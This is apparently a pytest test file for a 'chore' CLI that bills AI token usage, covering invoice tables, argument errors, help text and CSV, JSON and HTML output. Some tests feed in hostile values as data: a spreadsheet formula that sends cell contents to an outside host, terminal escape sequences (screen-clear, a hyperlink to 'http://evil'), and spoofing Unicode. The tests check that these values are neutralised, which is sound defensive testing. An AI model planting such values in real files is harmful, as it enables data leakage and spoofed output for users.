"""Issue 18 items 7, 2 and 9 (the rest): output a person reads at 80 columns, arguments
checked in one line, help that says what it means. Through click's CliRunner."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from typing import Any

import click
import pytest
from click.testing import CliRunner

from chores import get_settings
from chores.cli import main
from chores.core.money import usd, usd_exact

from support import NOW, ai_runner, metered_months

NOW_ARG = ["--now", NOW.isoformat()]
NARROW = {"COLUMNS": "80"}


def invoke(*args: str, env: dict[str, str] | None = None):
    return CliRunner().invoke(main, list(args), env=env, catch_exceptions=False, prog_name="chore")


def fails(*args: str):
    return CliRunner().invoke(main, list(args), prog_name="chore")


@pytest.fixture
def usage_db(env_db, registry):
    metered_months(env_db, get_settings(), registry, seed=5, orgs=("acme",))
    return env_db


def table_lines(output: str) -> list[str]:
    return [line for line in output.splitlines() if not line.startswith("note: ")]


# --- money --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("micros", "text"),
    [
        (50_000_000, "$50.00"),
        (704_213, "$0.70"),
        (1_234_567_890, "$1,234.57"),
        (5_000, "$0.01"),  # half a cent rounds up, as the invoice does
        (4_200, "$0.0042"),  # below a cent: the digits it needs, not $0.00
        (1, "$0.000001"),
        (0, "$0.00"),
        (-4_200, "-$0.0042"),
        (None, "unpriced"),
    ],
)
def test_money_reads_in_cents(micros, text):
    assert usd(micros) == text


def test_plan_and_quota_speak_cents(env_db):
    result = invoke("plan", "set", "--org", "acme", "--spend-limit", "$50", *NOW_ARG)
    assert "spend limit $50.00," in result.output
    check = invoke("quota", "check", "--org", "acme", *NOW_ARG)
    assert "of $50.00" in check.output and "000000" not in check.output


def test_a_spend_limit_is_shown_to_the_micro_dollar_it_blocks_at(env_db):
    """`$0.151631` once read `$0.15`: a limit rounded to cents misstates where it blocks."""
    result = invoke("plan", "set", "--org", "acme", "--spend-limit", "0.151631", *NOW_ARG)
    assert "spend limit $0.151631," in result.output
    assert "spend limit $0.151631," in invoke("plan", "show", "--org", "acme").output
    check = invoke("quota", "check", "--org", "acme", *NOW_ARG)
    assert "of $0.151631" in check.output, check.output
    assert [usd_exact(m) for m in (50_000_000, 1_500_000, 151_631, 1, -2_010_000)] == [
        "$50.00", "$1.50", "$0.151631", "$0.000001", "-$2.01",
    ]  # fmt: skip


# --- 80 columns ---------------------------------------------------------------------------


def assert_fits(output: str, width: int = 80) -> None:
    for line in table_lines(output):
        assert len(line) <= width, line


def test_invoice_at_80_columns_never_cuts_money_or_counts(metered_env_db):
    result = invoke("invoice", "show", "--org", "ws-beta", "--period", "2026-11", env=NARROW)
    assert result.exit_code == 0
    assert_fits(result.stdout)
    invoice = metered_env_db.billing_invoices.find_one({"_id": "ws-beta:2026-11"})
    rows = table_lines(result.output)
    for line in invoice["lines"]:
        amount = usd(line["amount_micros"]) if line["priced"] else "UNPRICED"
        expected = [f"{line[k]:,}" for k in ("input_tokens", "output_tokens", "tokens")]
        assert any(
            row.rstrip().endswith(amount) and all(f" {n} " in row for n in expected) for row in rows
        ), (line, result.output)
    assert f"total {usd(invoice['total_micros'])} USD" in result.output


def test_usage_by_run_at_80_columns_shows_every_amount_whole(usage_db):
    result = invoke("usage", "--org", "acme", "--period", "2026-11", env=NARROW)
    assert result.exit_code == 0, result.output
    assert_fits(result.stdout)
    data = json.loads(invoke("usage", "--org", "acme", "--period", "2026-11", "--json").stdout)
    body = table_lines(result.output)[3:]
    assert len([r for r in body if r.strip()]) >= len(data["rows"])
    for row, line in zip(data["rows"], body, strict=False):
        amount = "UNPRICED" if row["amount_micros"] is None else usd(row["amount_micros"])
        if row["amount_micros"] is not None and row["unpriced_tokens"]:
            amount += " + unpriced"
        assert line.rstrip().endswith(amount), (row, line)
        assert f" {row['tokens']:,} " in line
    assert "…" not in "".join(line.split()[-1] for line in body if line.strip())


def test_status_and_run_tables_fit_80_columns(metered_env_db):
    run = invoke("run", "--all", *NOW_ARG, env=NARROW)
    assert_fits(run.stdout)
    status = invoke("status", *NOW_ARG, env=NARROW)
    assert status.exit_code == 0
    assert_fits(status.stdout)
    assert re.search(r"ws-acme +ok +\S+ \S+ +\d[\d,]*s", status.output)


# --- reconcile ------------------------------------------------------------------------------


def test_reconcile_dash_without_estimate_headers_and_right_aligned(metered_env_db):
    result = invoke("reconcile", "--org", "ws-acme", "--period", "2026-11", *NOW_ARG, env=NARROW)
    assert result.exit_code == 0, result.output
    assert_fits(result.stdout)
    lines = table_lines(result.output)
    first, second = lines[1], lines[2]
    # Every column has a header (two lines: the second names each number column).
    assert second.split() == [
        "model", "tier", "from", "source", "invoiced", "source", "invoiced", "estimate", "check"
    ]  # fmt: skip
    report = json.loads(
        invoke("reconcile", "--org", "ws-acme", "--period", "2026-11", "--json", *NOW_ARG).output
    )
    rows = lines[4 : 4 + len(report["lines"])]
    estimate_end = second.index("estimate") + len("estimate")
    tokens_end = second.index("source") + len("source")
    assert first[:tokens_end].rstrip().endswith("tokens")
    for line, row in zip(rows, report["lines"], strict=True):
        # Numbers right-aligned under their headers.
        assert line[:tokens_end].endswith(f"{row['expected_tokens']:,}")
        estimate = line[:estimate_end].split()[-1]
        if row["estimated_runners"]:
            assert estimate == usd(round(row["runner_estimate_usd"] * 1_000_000))
        else:
            assert estimate == "–" and row["runner_estimate_usd"] is None  # not 0.0
    mini = next(r for r in report["lines"] if r["model"] == "gpt-4o-mini")
    assert mini["estimated_runners"] == 2  # runners 1 and 2 gave one; runner 3 none
    assert any(not r["estimated_runners"] for r in report["lines"])


# --- usage: tree order, formats, empty results -------------------------------------------------


def test_usage_by_run_lists_subagents_under_their_parents(usage_db):
    data = json.loads(invoke("usage", "--org", "acme", "--period", "2026-11", "--json").stdout)
    rows = data["rows"]
    position = {row["run"]: n for n, row in enumerate(rows)}
    nested = 0
    for n, row in enumerate(rows):
        parent = row["parent_id"]
        if not row["subagent"] or parent not in position:
            continue
        nested += 1
        # Under its parent: after it, and everything in between is the parent's subtree.
        assert position[parent] < n
        for between in rows[position[parent] + 1 : n]:
            ancestor = between["parent_id"]
            while ancestor is not None and ancestor != parent:
                ancestor = rows[position[ancestor]]["parent_id"] if ancestor in position else None
            assert ancestor == parent, (row["run"], between["run"])
    assert nested >= 3
    # Not by amount: some subagent costs more than the run listed just before its tree.
    amounts = [r["amount_micros"] or 0 for r in rows]
    assert amounts != sorted(amounts, reverse=True)
    table = invoke("usage", "--org", "acme", "--period", "2026-11", env={"COLUMNS": "200"})
    body = [line for line in table_lines(table.output) if "↳ " in line]
    assert len(body) == nested + sum(
        1 for r in rows if r["subagent"] and r["parent_id"] not in position
    )


@pytest.mark.parametrize("command", [["usage"], ["invoice", "show"]])
def test_json_and_csv_together_is_a_usage_error(metered_env_db, command):
    result = fails(*command, "--org", "ws-acme", "--period", "2026-11", "--json", "--csv")
    assert result.exit_code == 2
    assert result.output.splitlines() == [
        f"Error: give at most one of --json and --csv (chore {' '.join(command)} -h for help)"
    ]


def test_json_quiet_still_prints_the_json(metered_env_db):
    result = invoke("run", "--all", "--json", "--quiet", *NOW_ARG)
    assert result.exit_code == 0
    assert json.loads(result.stdout)["tokens_billed"] == 0  # nothing new since the fixture
    assert invoke("run", "--all", "--quiet", *NOW_ARG).output == ""


def test_filters_that_match_nothing_say_so(usage_db):
    base = ["usage", "--org", "acme", "--period", "2026-11"]
    result = invoke(*base, "--model", "no-such-model")
    assert result.exit_code == 0
    assert result.stdout == "no usage of acme:2026-11 matches --model no-such-model\n"
    later = invoke(*base, "--since", "2026-12-05")
    assert later.stdout == "no usage of acme:2026-11 matches --since 2026-12-05\n"
    as_json = json.loads(invoke(*base, "--model", "no-such-model", "--json").stdout)
    assert as_json["rows"] == []  # a script still gets its JSON


def test_since_after_until_is_one_line(usage_db):
    result = fails("usage", "--org", "acme", "--since", "2026-11-20", "--until", "2026-11-02")
    assert result.exit_code == 2
    assert result.output == (
        "Error: --since 2026-11-20 is after --until 2026-11-02: no day can match both "
        "(chore usage -h for help)\n"
    )


# --- item 2: bad arguments, one line --------------------------------------------------------


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (
            ["invoice", "show", "--org", "a", "--period", "9999-12"],
            "Invalid value for '--period': 9999-12 is out of range: expected a month from "
            "2000-01 to 2999-12 (YYYY-MM)",
        ),
        (
            ["usage", "--org", "a", "--period", "2026-13"],
            "Invalid value for '--period': '2026-13' is not a month: expected YYYY-MM, "
            "such as 2026-11",
        ),
        (
            ["report", "--org", "a", "--period", "0000-01", "--out", "x.html"],
            "Invalid value for '--period': 0000-01 is out of range",
        ),
        (
            ["reconcile", "--org", "a", "--period", "1999-12"],
            "Invalid value for '--period': 1999-12 is out of range",
        ),
        (
            ["usage", "--org", "a", "--since", "2026-02-30"],
            "Invalid value for '--since': 2026-02-30 is not a calendar day (day is out of "
            "range for month): expected YYYY-MM-DD",
        ),
        (
            ["usage", "--org", "a", "--until", "26-1-1"],
            "Invalid value for '--until': '26-1-1' is not a day: expected YYYY-MM-DD",
        ),
        (
            ["finalize", "--grace-days", "nan"],
            "Invalid value for '--grace-days': nan is not a number of days: expected 0 to 366",
        ),
        (
            ["finalize", "--grace-days", "1e9"],
            "Invalid value for '--grace-days': 1e9 is not a number of days: expected 0 to 366",
        ),
        (
            ["run", "--all", "--now", "yesterday"],
            "Invalid value for '--now': 'yesterday' is not a date-time: expected ISO 8601",
        ),
        (["run", "--org"], "Option '--org' requires an argument."),
        (["invoice", "show"], "Missing option '--org'."),
        (["nope"], "No such command 'nope'."),
    ],
)
def test_bad_arguments_are_one_line_exit_2(env_db, args, message):
    result = fails(*args)
    assert result.exit_code == 2, result.output
    assert len(result.output.splitlines()) == 1, result.output
    assert result.output.startswith(f"Error: {message}"), result.output
    assert "Traceback" not in result.output and result.exception is not None
    assert isinstance(result.exception, SystemExit)


# --- item 9: help --------------------------------------------------------------------------


def every_command(group: click.Group = main, path: tuple[str, ...] = ()):
    yield path, group
    for name, command in group.commands.items():
        if isinstance(command, click.Group):
            yield from every_command(command, (*path, name))
        else:
            yield (*path, name), command


@pytest.mark.parametrize("path", [p for p, _ in every_command()], ids=" ".join)
def test_dash_h_everywhere(path):
    short, long = invoke(*path, "-h"), invoke(*path, "--help")
    assert short.exit_code == 0 and short.output == long.output
    assert "-h, --help" in short.output


def test_every_option_has_help_and_org_json_csv_say_what_they_are():
    for path, command in every_command():
        for param in command.params:
            if isinstance(param, click.Option):
                assert param.help, (path, param.name)
    usage_help = invoke("usage", "-h").output
    assert "--org ORG" in usage_help and "--json" in usage_help and "Print CSV" in usage_help
    assert "--since YYYY-MM-DD" in usage_help and "%Y" not in usage_help
    assert "--period YYYY-MM" in usage_help


def test_command_summaries_are_whole():
    for path, command in every_command():
        if isinstance(command, click.Group):
            listing = invoke(*path, "--help", env=NARROW).output
            commands = listing[listing.index("Commands:") :]
            assert "..." not in commands, (path, commands)


def test_help_names_mongo_url_and_the_stores():
    text = " ".join(invoke("--help").output.split())
    assert "MONGO_URL, the MongoDB server (default mongodb://localhost:27017)" in text
    assert "export MONGO_URL=file://.chore-demo/store.json" in text
    assert "not for production and not for concurrent use" in text
    assert "mongomock://NAME" in text


def test_registry_path_both_ways(tmp_path):
    from pricing import load_registry, registry_to_yaml

    path = tmp_path / "r.yaml"
    path.write_text(registry_to_yaml(load_registry()))
    for args in ([str(path)], ["--path", str(path)]):
        listed = invoke("registry", "list", *args)
        assert listed.exit_code == 0 and "gpt-4o-mini" in listed.output
        valid = invoke("registry", "validate", *args)
        assert valid.exit_code == 0 and valid.output.startswith(f"{path}: valid")
    shipped = invoke("registry", "validate")
    assert shipped.exit_code == 0 and shipped.output.startswith("shipped registry: valid")
    both = fails("registry", "list", str(path), "--path", "other.yaml")
    assert both.exit_code == 2 and len(both.output.splitlines()) == 1


TIME_DEPENDENT = [
    ("run",),
    ("finalize",),
    ("invoice", "show"),
    ("anomaly", "review"),
    ("usage",),
    ("report",),
    ("reconcile",),
    ("quota", "check"),
    ("plan", "set"),
    ("status",),
    ("demo",),
    ("registry", "list"),
]


def test_now_on_every_command_that_depends_on_the_time():
    for path, command in every_command():
        if isinstance(command, click.Group):
            continue
        has_now = any("--now" in getattr(p, "opts", ()) for p in command.params)
        assert has_now == (path in TIME_DEPENDENT), path


def test_csv_never_hands_a_spreadsheet_a_formula(env_db):
    """An org, model or session id is data: written as `=HYPERLINK(...)` it ran as a
    formula where the CSV was opened (review). Such cells start with `'`; numbers stay."""
    import csv
    import io
    from datetime import timedelta

    org, model, session = '=HYPERLINK("http://x/?"&A1,"y")', "+1+1", "@SUM(1+1)"
    ended = NOW - timedelta(hours=1)
    env_db.tasks.insert_one(
        {
            "_id": "r1", "name": "ai", "status": "SUCCESS", "end_time": ended,
            "last_updated_db": ended.timestamp(),
            "context": {"workspace_id": org, "ai_model": model, "session_id": session,
                        "ai_tokens": 1_000, "ai_prompt_tokens": 800,
                        "ai_completion_tokens": 200},
        }
    )  # fmt: skip
    assert invoke("run", "--org", org, *NOW_ARG).exit_code == 0
    outputs = [
        invoke("invoice", "show", "--org", org, "--csv", *NOW_ARG).output,
        invoke("usage", "--org", org, "--by", "run", "--csv", *NOW_ARG).output,
        invoke("usage", "--org", org, "--by", "session", "--csv", *NOW_ARG).output,
    ]
    cells = [cell for out in outputs for row in csv.reader(io.StringIO(out)) for cell in row]
    assert f"'{org}:2026-11" in cells and f"'{model}" in cells and f"'{session}" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@")]
    assert "1000" in cells  # numbers are written as they are


def ended_runs(db: Any, models_and_sessions: list[tuple[str, str]]) -> None:
    """acme's runners `r0`, `r1`... of these models and session ids, ended an hour before
    NOW with 1,000 tokens each, metered."""
    from datetime import timedelta

    ended = NOW - timedelta(hours=1)
    for n, (model, session) in enumerate(models_and_sessions):
        context = {"workspace_id": "acme", "ai_model": model, "session_id": session}
        context |= {"ai_tokens": 1_000, "ai_prompt_tokens": 800, "ai_completion_tokens": 200}
        db.tasks.insert_one(
            {
                "_id": f"r{n}", "name": "ai", "status": "SUCCESS", "end_time": ended,
                "last_updated_db": ended.timestamp(), "context": context,
            }
        )  # fmt: skip
    assert invoke("run", "--org", "acme", *NOW_ARG).exit_code == 0


def test_csv_is_utf8_whatever_the_terminals_encoding(env_db):
    """Review: under a latin-1 terminal, a session id `sess-中—é` was written as the text
    `sess-\\u4e2d\\u2014` plus a latin-1 byte, exit 0: not the session id, and the same as
    a session so named. CSV is data: UTF-8 on every machine."""
    import csv
    import io

    ended_runs(env_db, [("gpt-4o", "sess-中—é"), ("gpt-4o", "sess-é")])
    latin = CliRunner(charset="latin-1")
    for args in (["usage", "--by", "session"], ["invoice", "show"]):
        ran = latin.invoke(main, [*args, "--org", "acme", "--csv", *NOW_ARG], prog_name="chore")
        assert ran.exit_code == 0, ran.output
        rows = list(csv.reader(io.StringIO(ran.stdout_bytes.decode("utf-8"))))
        assert rows[0][0] in ("session", "invoice") and len(rows) > 1
        if args[0] == "usage":
            assert {row[0] for row in rows[1:]} == {"sess-中—é", "sess-é"}


def test_a_carriage_return_in_the_data_never_splits_a_csv_row(env_db):
    """Review: a bare `\r` in a session id or model was written unquoted: a spreadsheet or
    a CSV reader split the row there (`=1+1` began a row of its own, unguarded) and the
    amounts of `usage --csv` no longer summed to the invoice. Such cells are quoted."""
    import csv
    import io

    ended_runs(env_db, [("m\rx", "sess\r=1+1"), ("gpt-4o", "plain")])
    invoice = env_db.billing_invoices.find_one({"_id": "acme:2026-11"})
    for view, rows in (
        (["invoice", "show", "--org", "acme"], 1 + len(invoice["lines"])),
        (["usage", "--org", "acme", "--by", "session"], 1 + 2),
        (["usage", "--org", "acme", "--by", "run"], 1 + 2),
    ):
        out = invoke(*view, "--csv", *NOW_ARG).output
        header, *lines = list(csv.reader(io.StringIO(out, newline="")))
        assert len(lines) + 1 == rows, (view, out)
        assert not [cell for line in lines for cell in line if cell.startswith("=")]
        amounts = [int(line[header.index("amount_micros")] or 0) for line in lines]
        assert sum(amounts) == invoice["total_micros"] > 0, view
        assert out.endswith("\n") and "\r\n" not in out  # one row per line, as before


def test_a_subagent_spawned_in_another_period_is_not_shown_under_an_unrelated_run(env_db):
    """Its spawning run billed only in September, an October subagent was printed indented
    under whichever October run came before it (review). It is a top-level row, marked."""
    from datetime import UTC, datetime

    september, october = datetime(2026, 9, 30, 21, tzinfo=UTC), datetime(2026, 10, 2, tzinfo=UTC)
    env_db.tasks.insert_many(
        [
            ai_runner("parent", model="gpt-4o", tokens=5_000, ended=september, session_id="sessP"),
            ai_runner("child", tokens=8_000, ended=october, session_id="sessC", subagent="sessC",
                      ai_subagent_depth=1, parent_session_id="sessP"),
            ai_runner("costly", model="gpt-4o", tokens=500_000, ended=october, session_id="sessX"),
        ]
    )  # fmt: skip
    env_db.findings.insert_one(
        {
            "_type": "ai", "ai_type": "task", "extra_data": {"runner_id": "child"},
            "_context": {"workspace_id": "acme", "ai_tokens": 5_000, "ai_prompt_tokens": 5_000,
                         "ai_completion_tokens": 0, "task_id": "parent"},
        }
    )  # fmt: skip
    now = ["--now", "2026-10-05T00:00:00+00:00"]
    assert invoke("run", "--org", "acme", *now).exit_code == 0
    result = invoke("usage", "--org", "acme", "--period", "2026-10", "--by", "run", *now)
    rows = {line.split()[0]: line for line in table_lines(result.output) if "str:" in line}
    assert "↳" not in result.output
    assert rows["str:'child'"].split()[1] == "*" and "*" not in rows["str:'costly'"]
    assert "* a subagent whose spawning run is not in this period" in result.output


def test_invoice_show_says_why_an_invoice_needs_review(env_db):
    """A person reading NEEDS REVIEW is told why: the unpriced model, then each open anomaly
    of that invoice (kind, runner, detail), the first ten and how many more."""
    ended = NOW.replace(day=2)
    env_db.tasks.insert_many(
        [ai_runner("ok", ended=ended), ai_runner("odd", ended=ended, model="mystery-model-9000")]
        + [ai_runner(f"bad-{n:02}", ended=ended, tokens="12") for n in range(12)]
    )
    invoke("run", "--org", "acme", *NOW_ARG)
    narrow = invoke("invoice", "show", "--org", "acme", *NOW_ARG, env=NARROW).output
    assert_fits(narrow)
    *wrapped, hint = table_lines(narrow[narrow.index("needs review:") :])[1:]
    assert any(line.startswith("      ") for line in wrapped)  # a long reason wraps...
    assert all(line.startswith(("    - ", "      ")) for line in wrapped)  # ...indented
    assert (
        hint == "    (once checked: chore anomaly review --org acme --period 2026-11 --note TEXT)"
    )
    output = invoke("invoice", "show", "--org", "acme", *NOW_ARG, env={"COLUMNS": "200"}).output
    review = table_lines(output[output.index("needs review:") :])
    assert review[1] == "    - unpriced: mystery-model-9000 (no registry price at its usage time)"
    assert review[2].startswith(
        "    - malformed_counters, runner str:'bad-00': malformed counters:"
    )
    assert "ai_tokens='12'" in review[2]
    assert len([line for line in review if "malformed_counters" in line]) == 10
    assert review[-2] == "    - and 2 more open (`chore anomaly list` lists them all)"


def test_invoice_show_lists_no_reasons_for_an_invoice_that_needs_none(env_db):
    env_db.tasks.insert_one(ai_runner("ok", ended=NOW.replace(day=2)))
    invoke("run", "--org", "acme", *NOW_ARG)
    output = invoke("invoice", "show", "--org", "acme", *NOW_ARG).output
    assert "NEEDS REVIEW" not in output
    assert "needs review" not in output


def test_ids_and_model_names_are_shown_as_written_never_as_emoji(env_db):
    """Review: rich turned `:smile:` into 😄 and `:b:` into 🅱 in the tables (`run`,
    `invoice show`, `status`), so an org could be mistaken for another."""
    from datetime import timedelta

    ended = NOW - timedelta(hours=1)
    env_db.tasks.insert_one(ai_runner("r1", ended=ended, org=":smile:", model=":b: gpt"))
    ran = invoke("run", "--all", *NOW_ARG)
    shown = invoke("invoice", "show", "--org", ":smile:", "--period", "2026-11")
    status = invoke("status", *NOW_ARG)
    for result in (ran, shown, status):
        assert result.exit_code == 0, result.output
        assert ":smile:" in result.output
        assert "😄" not in result.output and "🅱" not in result.output
    assert ":b: gpt" in shown.output


def test_an_invoice_total_in_cents_shows_its_exact_amount_when_cents_lose_some(env_db):
    """Review: lines of $0.001754 and $1.76 showed under a total of $1.76: cents per line
    never add up exactly. The total says its exact amount, and a note where the exact
    lines are."""
    from datetime import timedelta

    ended = NOW - timedelta(hours=1)
    env_db.tasks.insert_one(ai_runner("r1", ended=ended, tokens=100_000))  # $0.015 of input
    invoke("run", "--all", *NOW_ARG)
    shown = invoke("invoice", "show", "--org", "acme", "--period", "2026-11")
    assert "total $0.02 USD ($0.015 exact) · 1 run" in shown.output
    assert "amounts in cents: --csv and --json give each line's micro-dollars" in shown.output
    env_db.tasks.insert_one(ai_runner("r2", ended=ended, tokens=100_000))  # now $0.03 exactly
    invoke("run", "--all", *NOW_ARG)
    whole = invoke("invoice", "show", "--org", "acme", "--period", "2026-11")
    assert "total $0.03 USD · 2 runs" in whole.output
    assert "exact" not in whole.output and "amounts in cents" not in whole.output


def test_an_invoice_whose_numbers_alone_fill_80_columns_cuts_none_of_them(env_db):
    """Review: a line of 999,456,789 tokens at 80 columns showed its amount as `$149.`
    and the header `amou`: the numbers took the whole width, and rich cut them to fit."""
    from datetime import timedelta

    env_db.tasks.insert_one(ai_runner("r1", ended=NOW - timedelta(hours=1), tokens=999_456_789))
    invoke("run", "--all", *NOW_ARG)
    shown = invoke("invoice", "show", "--org", "acme", "--period", "2026-11", env=NARROW)
    header, _, row = table_lines(shown.output)[1:4]
    assert header.split()[-1] == "amount" and row.split()[-1] == "$149.92"
    assert "999,456,789" in row


@pytest.mark.parametrize("by", ["day", "tier"])
def test_a_table_of_numbers_only_keeps_every_column_on_a_narrow_terminal(usage_db, by):
    """Review: `usage --by day|tier` has no name column to shrink; at 40 columns rich dropped
    whole columns (`runs`, even `tier`, the rows' labels) without a word."""
    shown = invoke("usage", "--org", "acme", "--by", by, *NOW_ARG, env={"COLUMNS": "30"})
    assert shown.exit_code == 0, shown.output
    header = next(line for line in table_lines(shown.output) if "amount" in line).split()
    assert header == [by, "runs", "input", "cached", "output", "unsplit", "tokens", "amount"]


def test_csv_shows_control_characters_as_escapes_piped_or_not(env_db):
    """Outside review: a model named `\x1b[2J...` cleared the screen of whoever printed a
    CSV; piped, click dropped the sequence, and two models printed alike (one priced, one
    not). Every text cell shows such characters as their escapes, as the tables do; JSON
    keeps the names as they are."""
    import csv
    import io
    import json

    models = ["gpt-4o-mini", "gpt-4o-mini\x1b[2K", "\x1b]8;;http://evil\x07x", "abc\u202egnp"]
    models.append("gpt-4o-mini\u200f")  # review: looks like the first, printed raw
    ended_runs(env_db, [(model, f"s\x08{n}") for n, model in enumerate(models)])
    for view in (["invoice", "show"], ["usage", "--by", "model"], ["usage", "--by", "run"]):
        out = invoke(*view, "--org", "acme", "--csv", *NOW_ARG).output
        assert not [c for c in out if (c < " " and c != "\n") or "\x7f" <= c <= "\x9f"], view
        assert "\u202e" not in out and "\u200f" not in out
        header, *rows = list(csv.reader(io.StringIO(out)))
        column = header.index("model")
        assert {row[column] for row in rows} == {
            "gpt-4o-mini",
            "gpt-4o-mini\\x1b[2K",
            "\\x1b]8;;http://evil\\x07x",
            "abc\\u202egnp",
            "gpt-4o-mini\\u200f",
        }, view
    shown = invoke("usage", "--org", "acme", "--by", "model", "--json", *NOW_ARG).output
    as_json = json.loads(shown)
    assert {row["model"] for row in as_json["rows"]} == set(models)
    # Every command's JSON is ASCII, the names as they are once parsed (review: `invoice
    # show --json` printed a bidirectional override raw, `usage --json` its escape).
    invoice = invoke("invoice", "show", "--org", "acme", "--json", *NOW_ARG).output
    assert invoice.isascii() and shown.isascii()
    assert {line["model"] for line in json.loads(invoice)["lines"]} == set(models)


def test_joiners_and_soft_hyphens_stay_as_written_invisible_marks_do_not():
    """Review: the zero-width joiner and non-joiner were escaped, breaking emoji sequences
    and Persian words (and a suggested `--org` command quoting such an org)."""
    from chores.core.wording import for_terminal

    for text in ("👨\u200d👩\u200d👧", "می\u200cخواهم", "co\u00adoperate", "Zoë 東京 שלום"):
        assert for_terminal(text) == text
    assert for_terminal("gpt-4o\u200f") == "gpt-4o\\u200f"
    assert for_terminal("a\u200bb\ufeff") == "a\\u200bb\\ufeff"


def test_model_json_writes_what_pydantic_writes_in_ascii():
    """Review: `json.dumps` of a model's dump wrote `NaN` (no JSON) where pydantic wrote
    null; the ASCII form must change nothing else."""
    from pydantic import BaseModel

    from chores.cli.common import model_json

    class Shown(BaseModel):
        ratio: float
        name: str

    shown = Shown(ratio=float("nan"), name="abc\u202e東京")
    assert json.loads(model_json(shown)) == json.loads(shown.model_dump_json())
    assert model_json(shown).isascii() and "NaN" not in model_json(shown)


def test_the_report_says_when_it_was_generated_in_utc(metered_env_db, tmp_path):
    """Outside hunt: `--now 2026-11-25T17:30:00+05:30` printed "generated 2026-11-25 17:30
    UTC", the local time labelled UTC (12:00 UTC)."""
    out = tmp_path / "r.html"
    local = ["--now", "2026-11-25T17:30:00+05:30"]
    args = ["report", "--org", "ws-acme", "--period", "2026-11", "--out", str(out), *local]
    assert invoke(*args).exit_code == 0
    assert "generated 2026-11-25 12:00 UTC" in out.read_text(encoding="utf-8")


def test_a_report_to_dash_is_written_to_standard_output(metered_env_db, tmp_path, monkeypatch):
    """Outside hunt: `report --out -` wrote a file named `-`; a page to standard output is
    what a user piping it means. The summary line goes to standard error, off the page."""
    monkeypatch.chdir(tmp_path)
    args = ["report", "--org", "ws-acme", "--period", "2026-11", "--out", "-", *NOW_ARG]
    shown = CliRunner().invoke(main, args, catch_exceptions=False)
    assert shown.exit_code == 0
    assert shown.stdout.startswith("<!DOCTYPE html>") and shown.stdout.endswith("</html>\n")
    assert shown.stderr.startswith("wrote the page: invoice ws-acme:2026-11")
    assert list(tmp_path.iterdir()) == []
    args[args.index("-")] = "./-"  # review: a file named `-` is still written so
    assert CliRunner().invoke(main, args, catch_exceptions=False).exit_code == 0
    assert (tmp_path / "-").read_text(encoding="utf-8") == shown.stdout


def test_a_report_to_dash_is_utf8_whatever_the_terminal(tmp_path):
    """Review: under `PYTHONIOENCODING=latin-1` the page went out in latin-1 (`·` as byte
    0xB7, `–` as the text `\\u2013`) under its `<meta charset="utf-8">`: the same bytes as
    `--out FILE` now."""
    env = {k: v for k, v in os.environ.items() if k not in ("MONGO_URL", "REDIS_URL")}
    env["MONGO_URL"] = f"file://{tmp_path}/store.json"
    chore = [sys.executable, "-m", "chores"]
    demo = ["demo", "--store", str(tmp_path / "store.json"), "--now", "2026-11-25T12:00:00Z"]
    subprocess.run([*chore, *demo], env=env, capture_output=True, check=True, timeout=300)
    args = ["report", "--org", "acme", "--period", "2026-11", "--quiet"]
    args += ["--now", "2026-11-25T12:00:00Z"]
    subprocess.run([*chore, *args, "--out", str(tmp_path / "f.html")], env=env, check=True)
    latin = {**env, "PYTHONIOENCODING": "latin-1"}
    shown = subprocess.run([*chore, *args, "--out", "-"], env=latin, capture_output=True)
    assert shown.returncode == 0, shown.stderr
    assert shown.stdout == (tmp_path / "f.html").read_bytes()
